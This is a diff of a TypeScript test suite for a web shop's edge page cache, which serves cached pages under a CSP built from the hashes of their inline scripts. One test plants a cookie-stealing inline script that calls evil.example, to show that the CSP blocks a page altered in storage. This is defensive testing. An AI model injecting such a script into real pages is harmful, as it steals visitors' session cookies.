@@ -5,10 +5,8 @@ import { consentValue } from '../contract/consent'
 import { COOKIE } from '../contract/cookies'
 import type { ServerRequestContext } from '../src/lib/request-context'
 import {
-  cutAt,
   FRESH_SECONDS,
   forgetCacheGeneration,
-  joinWith,
   forgetPagesInMemory,
   GENERATION_KEY,
   openPageCache,
@@ -49,10 +47,16 @@ function shop(options: { buildId?: string; setCookie?: boolean; status?: number 
     render: async (renderRequest, context) => {
       rendered.push({ request: renderRequest, context })
       await context.fetchApi('/api/v2/shop/menus/header', {})
+      // as Start writes a page: the nonce meta, inline scripts in the head and streamed into the body, the
+      // entry script, a data block (not run, so not in the CSP)
+      const n = context.nonce
       const body =
-        `<!doctype html><html><head><meta property="csp-nonce" content="${context.nonce}"/><script nonce="${context.nonce}">1</script></head>` +
-        `<body><p>render ${rendered.length} ${version} url=${context.url} cookies=[${context.cookieHeader}] shared=${context.shared}</p></body></html>`
-      const headers = new Headers({ 'content-type': 'text/html; charset=utf-8' })
+        `<!doctype html><html><head><meta property="csp-nonce" content="${n}"/><script nonce="${n}">1</script>` +
+        `<script type="module" nonce="${n}" src="/assets/main.js"></script><script type="application/ld+json">{"name":"Rum"}</script></head>` +
+        `<body><p>render ${rendered.length} ${version} url=${context.url} cookies=[${context.cookieHeader}] shared=${context.shared}</p>` +
+        `<script class="$tsr" nonce="${n}">self.$R=self.$R||[];$_TSR.e("Žluťoučký kůň")</script>` +
+        `<script type="module" nonce="${n}">import("/assets/main.js")\r\n</script></body></html>`
+      const headers = new Headers({ 'content-type': 'text/html; charset=utf-8', 'server-timing': 'render;dur=12' })
       if (options.setCookie) headers.append('set-cookie', 'flash=1; Path=/')
       return new Response(body, { status: options.status ?? 200, headers })
     },
@@ -76,40 +80,109 @@ function shop(options: { buildId?: string; setCookie?: boolean; status?: number 
 const nonceOf = (response: Response) =>
   /'nonce-([^']+)'/.exec(response.headers.get('content-security-policy') ?? '')?.[1]
 
+/** The `'sha256-…'` sources of a CSP's script-src, sorted. */
+const hashesOf = (response: Response) =>
+  [
+    ...(/script-src ([^;]*)/.exec(response.headers.get('content-security-policy') ?? '')?.[1] ?? '').matchAll(
+      /'(sha256-[^']+)'/g,
+    ),
+  ]
+    .map((m) => m[1]!)
+    .sort()
+
+/** What a browser hashes of each inline script it would run (its text, line breaks as the parser gives them). */
+async function inlineScriptHashes(html: string): Promise<string[]> {
+  const hashes = new Set<string>()
+  for (const [, attrs, text] of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
+    if (/\ssrc=/.test(attrs!) || /type="application\/ld\+json"/.test(attrs!)) continue
+    const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text!.replace(/\r\n?/g, '\n')))
+    hashes.add(`sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}`)
+  }
+  return [...hashes].sort()
+}
+
 beforeEach(async () => {
   await kv.delete(GENERATION_KEY)
   forgetCacheGeneration()
 })
 
 describe('the edge cache of shared pages', () => {
-  it("renders once and serves the second request from the cache, with that answer's own nonce", async () => {
+  it("renders once and serves the next requests the stored bytes as they are, under a CSP of their inline scripts' hashes", async () => {
     const s = shop()
-    const first = await s.request('/kategorie/rum?brand=a,b&page=2')
+    const path = '/kategorie/rum?brand=a,b&page=2'
+    const first = await s.request(path)
     expect(first.headers.get('x-cache')).toBe('miss')
+    // the render the first visitor streams carries its answer's nonce
     const firstBody = await first.text()
-    await s.stored('/kategorie/rum?brand=a,b&page=2')
-    const second = await s.request('/kategorie/rum?brand=a,b&page=2')
+    expect(firstBody).toContain(`<script nonce="${nonceOf(first)}">1</script>`)
+    await s.stored(path)
+    const stored = await (
+      await openPageCache()
+    )
+      .match(pageCacheKey({ url: TEST_ORIGIN + path, variant: GUEST }, s.buildId, '0'))
+      .then((response) => response!.arrayBuffer())
+    const second = await s.request(path)
     expect(second.headers.get('x-cache')).toBe('hit')
     expect(second.status).toBe(200)
-    const body = await second.text()
+    // byte for byte the stored page: no nonce written in, the render's own taken out
+    const body = new Uint8Array(await second.arrayBuffer())
+    expect(body).toEqual(new Uint8Array(stored))
+    const html = new TextDecoder().decode(body)
+    // each answer from memory gets the whole page (the stored bytes are not handed over to one answer)
+    expect(new Uint8Array(await (await s.request(path)).arrayBuffer())).toEqual(body)
     expect(s.rendered).toHaveLength(1)
-    expect(body).toContain('render 1 ')
-    // the stored page's nonce is replaced by the one in this answer's CSP
-    const nonce = nonceOf(second)
-    expect(nonce).toBeTruthy()
-    expect(nonce).not.toBe(nonceOf(first))
-    expect(body).toBe(firstBody.replaceAll(nonceOf(first)!, nonce!))
-    expect(body).toContain(`nonce="${nonce}"`)
+    expect(html).toContain('render 1 ')
+    expect(html).not.toContain('nonce')
+    expect(html).not.toContain(nonceOf(first))
+    // its CSP: the hashes of exactly the page's inline scripts where a rendered answer has its nonce, no nonce,
+    // and otherwise the same policy
+    const csp = second.headers.get('content-security-policy')!
+    expect(csp).not.toContain('nonce')
+    expect(hashesOf(second)).toEqual(await inlineScriptHashes(html))
+    expect(hashesOf(second)).toHaveLength(3)
+    const hashes = /script-src 'self' ((?:'sha256-[^']+' ?)+)/.exec(csp)![1]!.trim()
+    expect(csp).toBe(first.headers.get('content-security-policy')!.replace(`'nonce-${nonceOf(first)}'`, hashes))
+    // the render's Server-Timing was about that render, not this answer
+    expect(first.headers.get('server-timing')).toBe('render;dur=12')
+    expect(second.headers.get('server-timing')).toBeNull()
     // not kept by the browser or any cache downstream: only the worker tells the variants apart
     expect(second.headers.get('cache-control')).toBe('private, no-cache')
-    // another isolate (nothing in its memory) reads the Cache API's copy
+    // another isolate (nothing in its memory) reads the Cache API's copy: the same bytes and the same CSP
     forgetPagesInMemory()
-    const third = await s.request('/kategorie/rum?brand=a,b&page=2')
+    const third = await s.request(path)
     expect(third.headers.get('x-cache')).toBe('hit')
-    expect(await third.text()).toBe(firstBody.replaceAll(nonceOf(first)!, nonceOf(third)!))
+    expect(new Uint8Array(await third.arrayBuffer())).toEqual(body)
+    expect(third.headers.get('content-security-policy')).toBe(csp)
     expect(s.rendered).toHaveLength(1)
+    // HEAD gets the same CSP
+    expect((await s.request(path, { method: 'HEAD' })).headers.get('content-security-policy')).toBe(csp)
     // another filter is another page
     expect((await s.request('/kategorie/rum?brand=a&page=2')).headers.get('x-cache')).toBe('miss')
+  })
+
+  it('does not allow an inline script altered in storage: the CSP keeps the hashes of the page as rendered', async () => {
+    const s = shop()
+    const path = '/kategorie/gin'
+    await (await s.request(path)).text()
+    await s.stored(path)
+    const cache = await openPageCache()
+    const key = pageCacheKey({ url: TEST_ORIGIN + path, variant: GUEST }, s.buildId, '0')
+    const stored = (await cache.match(key))!
+    const rendered = await stored.clone().text()
+    const altered = rendered.replace('<script>1</script>', '<script>fetch("//evil.example/"+document.cookie)</script>')
+    expect(altered).not.toBe(rendered)
+    await cache.put(key, new Response(altered, stored))
+    forgetPagesInMemory()
+    const hit = await s.request(path)
+    expect(hit.headers.get('x-cache')).toBe('hit')
+    const html = await hit.text()
+    expect(html).toContain('evil.example')
+    const allowed = hashesOf(hit)
+    expect(allowed).toEqual(await inlineScriptHashes(rendered))
+    // the altered script's hash is not among them, so the browser does not run it
+    const [evil] = (await inlineScriptHashes(altered)).filter((hash) => !allowed.includes(hash))
+    expect(evil).toBeTruthy()
+    expect(hit.headers.get('content-security-policy')).not.toContain(evil)
   })
 
   it('renders a visitor with a session and a cart as a guest: the render never sees their cookies or bearer', async () => {
@@ -319,41 +392,5 @@ describe('the edge cache of shared pages', () => {
     expect(await head.text()).toBe('')
     const staging = await s.request('https://preview.staging.example.cz/kontakt')
     expect(staging.headers.get('x-cache')).toBe('bypass')
-  })
-})
-
-describe('a stored page cut at its nonce, as bytes', () => {
-  const bytes = (text: string) => new TextEncoder().encode(text)
-  const text = (parts: Uint8Array) => new TextDecoder().decode(parts)
-
-  it('joins Czech HTML again with another nonce, byte for byte what the text replacement gives', () => {
-    const old = 'Ab+/Cd0=Ef1+Gh2/Ij3+Kl=='
-    // the nonce at the start and the end, twice in a row, and a prefix of it that is not the nonce
-    const html = `${old}<p>Žluťoučký kůň</p><script nonce="${old}">Ab+/Cd0=Ef</script>${old}${old}<b>úpěl</b>${old}`
-    const parts = cutAt(bytes(html), bytes(old))
-    expect(parts).toHaveLength(6)
-    expect(text(joinWith(parts, 'NEW'))).toBe(html.replaceAll(old, 'NEW'))
-    expect(text(joinWith(cutAt(bytes('bez nonce, ěščř'), bytes(old)), 'NEW'))).toBe('bez nonce, ěščř')
-    // a page made of many near matches, cut exactly where a string split would cut it
-    const noisy = Array.from({ length: 200 }, (_, i) =>
-      i % 7 === 0 ? old : old.slice(0, i % 24) + 'žx' + old.slice(i % 24),
-    ).join('ř')
-    expect(cutAt(bytes(noisy), bytes(old)).map(text)).toEqual(noisy.split(old))
-  })
-
-  it('cuts pages made of the nonce letters where a string split cuts them (300 generated pages)', () => {
-    let seed = 7
-    const next = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed % n)
-    const nonce = 'A8/Zk+Q8z=kZ/q+8zQ=kq8=='
-    for (let page = 0; page < 300; page++) {
-      // pieces of the nonce, its letters and Czech ones, with whole nonces in between
-      const html = Array.from({ length: 40 }, () => {
-        const kind = next(4)
-        if (kind === 0) return nonce
-        if (kind === 1) return nonce.slice(next(24), next(24) + 1)
-        return Array.from({ length: next(6) }, () => 'Aq8/Zk+=zQéř'[next(12)]).join('')
-      }).join('')
-      expect(cutAt(bytes(html), bytes(nonce)).map(text)).toEqual(html.split(nonce))
-    }
   })
 })
